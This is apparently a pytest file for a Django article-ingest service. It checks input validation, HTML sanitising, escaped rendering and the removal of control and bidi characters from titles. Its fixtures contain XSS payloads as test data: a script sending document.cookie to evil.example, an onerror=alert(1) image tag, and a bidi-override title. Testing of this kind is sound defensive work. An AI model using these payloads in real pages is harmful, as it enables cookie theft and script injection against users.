"""Bad input gets a clear error or clean text; article text is stored as text and rendered escaped."""

from __future__ import annotations

import pytest

from articles.errors import IngestError
from articles.models import Article
from articles.services import article_ingest, article_ingest_page
from articles.text import InvalidText, decode_bytes

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("text", ["", "   ", "\n\n\t\n", "\x07\x08"])
def test_empty_text_is_refused_with_a_clear_error(text):
    with pytest.raises(InvalidText, match="the article has no text"):
        article_ingest(text=text)
    assert not Article.objects.exists()


def test_binary_data_is_refused_with_a_clear_error():
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00"
    with pytest.raises(InvalidText, match="looks binary"):
        decode_bytes(png)
    with pytest.raises(InvalidText, match="looks binary"):
        article_ingest(text="Header\x00\x01\x02 then garbage")


def test_text_that_is_not_utf8_is_refused_and_says_where():
    with pytest.raises(InvalidText, match=r"not valid UTF-8 \(byte 10: b'\\xe9'\)"):
        decode_bytes("Le maire déclare".encode("latin-1"))
    assert decode_bytes("\ufeffLe maire déclare".encode()) == "Le maire déclare"  # a BOM is fine


def test_a_20_mb_text_is_refused_before_any_work_is_done(settings):
    settings.INGEST_MAX_BYTES = 5_000_000
    twenty_mb = "The minister said the budget would pass. " * 500_000
    with pytest.raises(InvalidText, match=r"too large \(20,500,000 bytes; the limit is 5,000,000\)"):
        article_ingest(text=twenty_mb)
    # A 20 MB page by URL is refused while downloading: see test_fetch.py.
    assert not Article.objects.exists()


def test_an_ingest_error_is_the_one_thing_to_catch_for_bad_input():
    assert issubclass(InvalidText, IngestError)
    assert issubclass(IngestError, ValueError)


def test_html_with_scripts_is_stored_as_clean_text_whichever_way_it_arrives(wire_story):
    page = (
        "<!doctype html><html><head><title>Barrier</title><script>document.cookie</script>"
        "<style>body{display:none}</style></head><body>"
        '<div onclick="steal()"><p>' + wire_story.replace("\n\n", "</p><p>") + "</p></div>"
        "<script>fetch('https://evil.example/?c=' + document.cookie)</script><noscript>Enable JS</noscript>"
        "</body></html>"
    )
    as_text = article_ingest(text=page).article  # e.g. pasted into the API's text field
    as_page = article_ingest_page(html=page + "<!-- another copy -->", url="https://news.example/barrier")

    assert not as_page.created  # the same text: one article
    for needle in ("document.cookie", "evil.example", "display:none", "steal()", "<p>", "<", "Enable JS"):
        assert needle not in as_text.text
    assert "Mayor Elena Ruiz said the barrier would protect" in as_text.text


def test_a_page_without_article_text_is_refused():
    script_only_app = (
        "<html><head><title>News</title></head><body><div id=root></div><script>app()</script></body></html>"
    )
    with pytest.raises(InvalidText, match="no article text was found"):
        article_ingest_page(html=script_only_app)
    with pytest.raises(InvalidText, match="no article text was found"):
        article_ingest(text=script_only_app)  # what the API and the submit form call


def test_article_text_with_markup_characters_is_rendered_escaped(admin_client):
    article = article_ingest(text='Readers wrote <b>"bold"</b> & <img src=x onerror=alert(1)> in comments.').article
    assert article.text.startswith("Readers wrote <b>")  # stored verbatim: it is text, not markup

    page = admin_client.get(f"/admin/articles/article/{article.pk}/change/").content.decode()

    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "<img src=x onerror" not in page


def test_plain_text_that_mentions_a_tag_is_stored_as_sent(client, django_user_model):
    """Before: anything with "<script" was parsed as HTML and the sentence lost its words."""
    text = 'The researcher said that "<script>alert(1)</script>" is not a claim, and that <b> tags are harmless.'
    article = article_ingest(text=text).article
    assert article.text == text

    page = client.get(f"/articles/{article.pk}/").content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script>alert(1)" not in page


def test_titles_lose_control_and_bidi_override_characters():
    """Before: a title kept \\x1b and U+202E, which reversed the rest of every line showing it."""
    article = article_ingest(
        text="The minister said the port would reopen.",
        title="Port\x1b[31m news\u202e dlrow \u2066x\u2069\r\nreopens\x85",
        byline="By\tA.\u202eWriter",
    ).article
    assert article.title == "Port [31m news dlrow x reopens"
    assert article.byline == "By A. Writer"


def test_the_submit_form_refuses_invalid_utf8_like_the_api(client, django_user_model):
    """Before: the form turned invalid bytes into U+FFFD and stored them; the API answered 400."""
    from claims.accounts import user_create_or_update

    editor, _ = user_create_or_update(username="edna", password="a long enough phrase 42", role="editor")
    client.force_login(editor)
    body = b"title=Le+maire&text=Le+maire+d%E9clare+que+le+pont+rouvrira.&url=&outlet=&published="
    response = client.post("/articles/new/", body, content_type="application/x-www-form-urlencoded")

    assert response.status_code == 200
    assert "not valid UTF-8" in response.content.decode()
    assert not Article.objects.exists()

    good = "title=Le+maire&text=Le+maire+d%C3%A9clare+que+le+pont+rouvrira.&url=&outlet=&published="
    response = client.post("/articles/new/", good, content_type="application/x-www-form-urlencoded")
    assert response.status_code == 302
    assert Article.objects.get().text == "Le maire déclare que le pont rouvrira."
